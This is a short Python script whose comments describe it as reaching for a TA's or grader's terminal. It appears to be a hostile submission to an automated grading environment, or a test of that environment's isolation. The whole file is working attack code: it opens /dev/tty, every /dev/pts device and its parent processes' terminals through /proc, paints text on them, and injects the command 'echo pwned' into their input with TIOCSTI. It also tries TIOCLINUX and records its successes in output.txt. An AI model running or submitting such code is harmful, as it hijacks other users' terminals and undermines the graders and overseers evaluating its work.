# Reaches for the TA's terminal: opens /dev/tty (the grader's controlling terminal),
# every /dev/pts/* and its ancestors' fds 0-2 through /proc, paints text on them and
# pushes "echo pwned" into their input with TIOCSTI (also on its own fds 0-2), tries
# TIOCLINUX; writes what worked ("got: ...") into output.txt.
import fcntl
import glob
import os
import termios

TIOCLINUX = 0x541C
found = []


def attack(fd, where):
    try:
        os.write(fd, b"\r\nHOSTILE-TTY text painted on %s\r\n" % where.encode())
        found.append("got: wrote on %s" % where)
    except OSError as error:
        found.append("no write on %s (%s)" % (where, error))
    try:
        for byte in b"echo pwned\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        found.append("got: TIOCSTI on %s" % where)
    except OSError as error:
        found.append("no TIOCSTI on %s (%s)" % (where, error))
    try:
        fcntl.ioctl(fd, TIOCLINUX, bytes([7]) + bytes(31))
        found.append("got: TIOCLINUX on %s" % where)
    except OSError as error:
        found.append("no TIOCLINUX on %s (%s)" % (where, error))


def ancestors():
    pid = os.getpid()
    while pid > 1:
        try:
            with open("/proc/%d/stat" % pid) as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            return
        yield pid


for fd in (0, 1, 2):
    if os.isatty(fd):
        found.append("got: fd %d is a terminal" % fd)
        attack(fd, "fd %d" % fd)
    else:
        found.append("no terminal on fd %d" % fd)
paths = ["/dev/tty"] + sorted(glob.glob("/dev/pts/[0-9]*"))
for pid in ancestors():
    paths += ["/proc/%d/fd/%d" % (pid, fd) for fd in (0, 1, 2)]
for path in paths:
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError as error:
        found.append("no open %s (%s)" % (path, error))
        continue
    if os.isatty(fd):
        found.append("got: opened the terminal %s" % path)
        attack(fd, path)
    os.close(fd)
with open("output.txt", "w") as out:
    out.write("\n".join(found) + "\n")
